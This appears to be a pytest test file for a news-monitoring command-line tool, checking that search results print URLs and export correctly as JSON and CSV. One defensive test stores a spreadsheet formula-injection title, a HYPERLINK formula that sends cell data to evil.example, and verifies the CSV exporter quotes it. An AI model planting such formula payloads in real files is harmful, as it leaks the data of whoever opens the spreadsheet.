"""``monitor search`` and ``monitor topics test`` print each article's URL, and --format json
and csv print documents a script can read back, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path

import pytest
from sqlmodel import Session, col, select

from monitor.db import create_db_engine
from monitor.models import Article, utcnow
from monitor.topics.results import COLUMNS
from tests.test_cli import invoke
from tests.utils.config import ConfigWriter, fixture_feed
from tests.utils.factories import add_article
from tests.utils.feedserver import FeedServer

COMMANDS = [["search"], ["topics", "test"]]
QUERY = "putin OR chipmaker"


@pytest.fixture
def polled(config: ConfigWriter, feed_server: FeedServer) -> Path:
    """A configuration whose database holds the world feed's five articles, tagged."""
    config.feeds = [feed_server.add("/world.rss", fixture_feed("world.rss"))]
    path = config.write()
    code, output = invoke(path, "poll")
    assert code == 0, output
    return path


def stored(config: ConfigWriter, query_words: tuple[str, ...]) -> dict[int, Article]:
    """The stored articles whose title or summary holds one of the words, by id."""
    engine = create_db_engine(config.database_url)
    try:
        with Session(engine) as session:
            found = {a.id or 0: a for a in session.exec(select(Article)).all()}
    finally:
        engine.dispose()
    return {
        i: a
        for i, a in found.items()
        if any(w in (a.title + a.summary + a.content).lower() for w in query_words)
    }


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_the_table_shows_each_articles_url(
    config: ConfigWriter, polled: Path, command: list[str]
) -> None:
    code, output = invoke(polled, *command, QUERY)

    assert code == 0, output
    urls = [a.url for a in stored(config, ("putin", "chipmaker")).values()]
    assert len(urls) == 2
    for url in urls:
        assert url in output


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_json_is_one_document_with_the_counts_and_the_articles(
    config: ConfigWriter, polled: Path, command: list[str]
) -> None:
    code, output = invoke(polled, *command, QUERY, "--format", "json")

    assert code == 0, output
    document = json.loads(output)
    expected = stored(config, ("putin", "chipmaker"))
    assert (document["scanned"], document["total"]) == (5, 2)
    assert document["per_day"] == {utcnow().date().isoformat(): 2}
    assert document["query"] == "putin OR chipmaker"
    articles = document["articles"]
    assert sorted(a["id"] for a in articles) == sorted(expected)
    for record in articles:
        article = expected[record["id"]]
        assert (record["title"], record["url"]) == (article.title, article.url)
        assert set(record) == set(COLUMNS)
    seen = [a["first_seen_at"] for a in articles]
    assert seen == sorted(seen, reverse=True)


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_csv_has_a_header_and_a_row_per_article(
    config: ConfigWriter, polled: Path, command: list[str]
) -> None:
    code, output = invoke(polled, *command, QUERY, "--format", "CSV", "--limit", "1")

    assert code == 0, output
    header, *rows = list(csv.reader(io.StringIO(output)))
    assert tuple(header) == COLUMNS
    assert len(rows) == 1
    record = dict(zip(header, rows[0], strict=True))
    article = stored(config, ("putin", "chipmaker"))[int(record["id"])]
    assert (record["title"], record["url"]) == (article.title, article.url)
    assert record["terms"] in ("putin", "chipmaker")


def test_csv_quotes_a_title_a_spreadsheet_would_run(config: ConfigWriter) -> None:
    path = config.write()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click for the election")'
    engine = create_db_engine(config.database_url)
    try:
        code, output = invoke(path, "feeds", "list")  # creates the schema
        assert code == 0, output
        with Session(engine) as session, session.begin():
            add_article(session, hostile, seen=utcnow() - timedelta(minutes=5))
            add_article(session, "+election -results @desk", seen=utcnow() - timedelta(minutes=6))
        with Session(engine) as session:
            assert session.exec(select(col(Article.id))).all()
    finally:
        engine.dispose()

    code, output = invoke(path, "search", "election", "--format", "csv")

    assert code == 0, output
    rows = list(csv.DictReader(io.StringIO(output)))
    assert [row["title"] for row in rows] == ["'" + hostile, "'+election -results @desk"]


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_an_unknown_format_is_a_one_line_error(polled: Path, command: list[str]) -> None:
    code, output = invoke(polled, *command, QUERY, "--format", "xml")

    assert code == 1
    assert output.strip() == "error: --format: 'xml' is not one of table, json, csv"
